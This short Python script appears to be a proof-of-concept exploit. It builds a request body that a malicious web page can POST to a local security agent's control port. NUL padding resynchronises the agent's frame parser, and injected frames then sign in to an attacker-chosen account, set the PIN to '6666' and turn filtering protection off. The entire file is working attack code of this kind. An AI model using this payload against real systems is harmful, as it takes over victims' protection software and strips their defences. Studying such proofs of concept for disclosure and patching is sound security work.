#!/usr/bin/python3
"""The body a web page can POST to the control port as text/plain.

usage: post-body.py NULS > body
A run of NUL bytes (in which the frame reader of an agent that skips bad
frames finds its step again on empty frames), then well-formed frames: a
greeting, a sign-in with another account, a PIN of the page's choosing and
protection switched off.
"""
import sys

from cvwire import frame

nuls = int(sys.argv[1])
body = b"\0" * nuls
body += frame("HELLOSUPPORT")
body += frame("CHECKAUTH", {"login": "strict", "password": "strict-password"})
body += frame("CREATEPIN", {"pin_code": "6666"})
body += frame("STATUSFILTERINGLOCAL", {"status": 0})
sys.stdout.buffer.write(body)
